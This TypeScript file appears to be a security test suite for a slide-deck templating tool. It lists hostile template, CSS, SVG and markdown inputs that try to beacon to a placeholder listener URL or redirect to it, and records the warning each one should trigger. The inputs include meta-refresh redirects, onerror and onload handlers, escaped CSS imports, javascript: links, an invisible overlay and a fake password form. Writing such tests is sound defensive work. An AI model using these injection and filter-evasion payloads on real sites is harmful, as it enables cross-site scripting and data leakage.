import type { HostileCase } from "./case.js";

const leftOut = { as: "warning", codes: ["left-out"] } as const;
const removed = { as: "warning", codes: ["removed-element"] } as const;
const missing = { as: "error", codes: ["missing-component"] } as const;
const noLayout = { as: "error", codes: ["missing-layout"] } as const;
const nothing = { as: "nothing" } as const;

const there = "{LISTENER}/asked";
const leave = `<meta http-equiv="refresh" content="0;url=${there}">`;
const run = `<img src="data:" onerror="fetch('${there}')">`;

const about = (
  name: string,
  files: HostileCase["files"],
  says: HostileCase["says"],
  saysSafe: HostileCase["says"] = says,
): HostileCase => ({ name: `safe-${name}`, attacks: "templates and paths", files, says, saysSafe });

const deck = { "deck.md": "## Title\n\nText\n" };
const page = (head: string, body = "") =>
  `<!doctype html><html><head>${head}<title>x</title><style>{{styles}}</style></head><body>${body}<div class="reveal"><div class="slides">{{slides}}</div></div><script type="application/json" id="quarterdeck-words">{{words}}</script><script type="application/json" id="quarterdeck-config">{{config}}</script>{{#each scripts}}<script>{{this}}</script>{{/each}}</body></html>`;
const scripted = (text: string) => ({ "deck.md": "---\nscripts: [own.js]\n---\n\n## Title\n", "own.js": text });

/** A project's own pages: each leaves or runs something as soon as it is opened. */
const pages: Readonly<Record<string, string>> = {
  refresh: page(leave),
  "refresh-before-all": `${leave}${page("")}`,
  "script-before-all": `<script>fetch("${there}")</script>${page("")}`,
  "script-in-head": page(`<script src="${there}"></script>`),
  "script-at-the-end": `${page("")}<script>fetch("${there}")</script>`,
  handler: page("", `<body onload="fetch('${there}')">${run}`),
  frame: page("", `<iframe src="${there}"></iframe><object data="${there}"></object>`),
  base: page(`<base href="${there}/"><link rel="icon" href="icon.png">`),
  prefetch: page(`<link rel="dns-prefetch" href="${there}"><link rel="prefetch" href="${there}">`),
  "in-pieces": page(
    '<{{#if true}}meta{{/if}} http-equiv="re{{#if true}}fresh{{/if}}" content="0;url={{deck.description}}">',
  ),
  "behind-a-comment": `<!-- <head> --><!--><script>fetch("${there}")</script>${page("")}`,
  "inside-of-noscript": page(`<noscript>${leave}</noscript>`),
  "data-in-a-drawing": page("", `<svg><script type="application/json">${leave.replaceAll("<", "&lt;")}</script></svg>`),
  "when-large": page(`{{#if (longer slides 10)}}${leave}{{/if}}`),
};

const asks = { as: "warning", codes: ["refused-address"] } as const;
const shows = { as: "warning", codes: ["remote-image"] } as const;

/** A project's own pages that would ask for something, if only the policy did not hold them. */
const asking: Readonly<Record<string, readonly [string, HostileCase["says"]]>> = {
  "style-import": [page(`<style>@import url(${there});</style>`), asks],
  "style-import-escaped": [page(`<style>@\\69mport '${there}';p{color:red}</style>`), asks],
  "style-address": [page(`<style>body{background:url(${there})}</style>`), asks],
  "style-image-set": [page(`<style>body{background:image-set("${there}" 1x)}</style>`), asks],
  "style-in-noscript": [page(`<noscript><style>body{background:url(${there})}</style></noscript>`), asks],
  "style-in-a-drawing": [page("", `<svg><style>rect{fill:URL(${there})}</style><rect/></svg>`), asks],
  "style-attribute": [page("", `<p style="background:\\75rl(${there})">x</p>`), asks],
  "style-link": [page(`<link rel="stylesheet" href="data:text/css,@import '${there}'">`), removed],
  picture: [page("", `<img src="${there}" alt="x"><video poster="${there}" src="//127.0.0.1/x"></video>`), shows],
  "picture-set": [page("", `<img srcset="${there} 1x" alt="x">`), asks],
  "picture-in-a-drawing": [page("", `<svg><image href="${there}"/><image xlink:href="${there}"/></svg>`), shows],
  "part-of-a-drawing": [page("", `<svg><use href="${there}#x"/><rect fill="url(${there}#x)"/></svg>`), asks],
  "link-by-animation": [
    page(
      "",
      '<svg><a><set attributeName="href" to="javascript:x()"/><animate attributeName="xlink:href" values="a;b"/></a></svg>',
    ),
    removed,
  ],
  "link-that-runs": [
    page("", '<a href="java\tscript:x()">x</a><svg><a xlink:href="javascript:x()">y</a></svg>'),
    removed,
  ],
};

export const cases: readonly HostileCase[] = [
  ...Object.entries(asking).map(([name, [text, says]]) =>
    about(`page-${name}`, { ...deck, "templates/deck.hbs": text }, says, leftOut),
  ),
  ...Object.entries(pages).map(([name, text]) =>
    about(
      `page-${name}`,
      { "deck.md": `---\ndescription: "${there}"\n---\n\n## Title\n`, "templates/deck.hbs": text },
      removed,
      leftOut,
    ),
  ),
  about("page-without-policy", { ...deck, "templates/deck.hbs": page("") }, nothing, leftOut),
  about("script", scripted(`fetch("${there}")`), nothing, leftOut),
  about("script-ends-element", scripted(`"</SCRIPT>${leave.replaceAll('"', "'")}"`), nothing, leftOut),
  about("script-double-escape", scripted(`"<!--<script>"; fetch("${there}")`), nothing, leftOut),
  about(
    "script-frame",
    scripted(`document.body.append(Object.assign(document.createElement("iframe"),{src:"${there}"}))`),
    nothing,
    leftOut,
  ),
  about(
    "script-policy",
    scripted(`document.querySelector("meta[http-equiv]").remove();new Image().src="${there}"`),
    nothing,
    leftOut,
  ),
  about("script-picture", scripted(`new Image().src="${there}"`), nothing, leftOut),
  about(
    "layout-script",
    {
      ...deck,
      "templates/layouts/default.hbs": `<div class="slide">{{slide.heading}}<script>fetch("${there}")</script>{{slide.body}}</div>`,
    },
    removed,
    leftOut,
  ),
  about(
    "layout-handler",
    { ...deck, "templates/layouts/default.hbs": `<div class="slide">${run}{{slide.heading}}{{slide.body}}</div>` },
    removed,
    leftOut,
  ),
  about(
    "layout-own",
    {
      "deck.md": '## Title <!-- .slide: layout="theirs" -->\n',
      "templates/layouts/theirs.hbs": "<div>{{slide.heading}}</div>",
    },
    nothing,
    noLayout,
  ),
  about(
    "layout-link",
    {
      "deck.md": '<!-- .slide: by="javascript:alert(1)" -->\n## Title\n',
      "templates/layouts/default.hbs":
        '{{!--\nsummary: x\nattributes: {by: {type: string}}\nexample: "## x"\n--}}<div class="slide"><a href="{{slide.attributes.by}}">x</a>{{slide.body}}</div>',
    },
    removed,
  ),
  about(
    "component",
    {
      "deck.md": "## Title\n\n::theirs\n",
      "templates/components/theirs.hbs": `{{!--\nsummary: x\nexample: "::theirs"\n--}}<p>${run}</p>`,
    },
    removed,
    missing,
  ),
  about(
    "component-of-ours",
    {
      "deck.md": "## Title\n\n:::callout\nx\n:::\n",
      "templates/components/callout.hbs": `{{!--\nsummary: x\nexample: "::callout"\n--}}${leave}`,
    },
    removed,
    leftOut,
  ),
  about("partial", { ...deck, "templates/partials/head.hbs": `{{slide.heading}}${run}` }, removed, leftOut),
  about(
    "words",
    { ...deck, "templates/locales/en.yaml": `slide: "<img src=x onerror=fetch('${there}')>{number}"\n` },
    nothing,
    leftOut,
  ),
  about(
    "sheet",
    { ...deck, "templates/styles/base.css": `@import "${there}";p{background:url(${there})}` },
    { as: "warning", codes: ["refused-address"] },
    leftOut,
  ),
  about(
    "print-page",
    { ...deck, "templates/print.hbs": `<script>fetch("${there}")</script>${leave}<style>{{styles}}</style>{{slides}}` },
    removed,
    leftOut,
  ),
  about("paper-page", { ...deck, "templates/paper.hbs": `${leave}<body>{{body}}</body>` }, nothing, leftOut),
  about(
    "icon",
    { ...deck, "templates/icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${there}')"/>` },
    nothing,
  ),
  about(
    "theme-templates",
    {
      "deck.md": "---\ntheme: theirs\n---\n\n## Title\n\nText\n",
      "templates/themes/theirs/theme.yaml": "extends: quarterdeck\n",
      "templates/themes/theirs/templates/layouts/default.hbs": `<div class="slide">${run}{{slide.body}}</div>`,
    },
    removed,
    leftOut,
  ),
  about(
    "picture-with-script",
    {
      "deck.md": "## Title\n\n![x](x.svg)\n",
      "x.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${there}')"><image href="${there}"/></svg>`,
    },
    nothing,
  ),
  about(
    "data-picture",
    { "deck.md": `## Title\n\n<img src="data:image/svg+xml,<svg onload=fetch('${there}')/>">\n` },
    nothing,
    leftOut,
  ),
  about(
    "overlay",
    {
      "deck.md":
        '## Title\n\n<div style="position:fixed;inset:0;z-index:99999;opacity:0"><a href="#title">x</a></div>\n',
    },
    nothing,
    leftOut,
  ),
  about(
    "form",
    { "deck.md": "## Title\n\n<form><input type=password name=p><button>Sign in</button></form>\n" },
    nothing,
    leftOut,
  ),
  about(
    "shown-file",
    { "deck.md": '## Title\n\n::diagram{src="x.html"}\n', "x.html": `<p>${run}</p>${leave}` },
    removed,
  ),
];
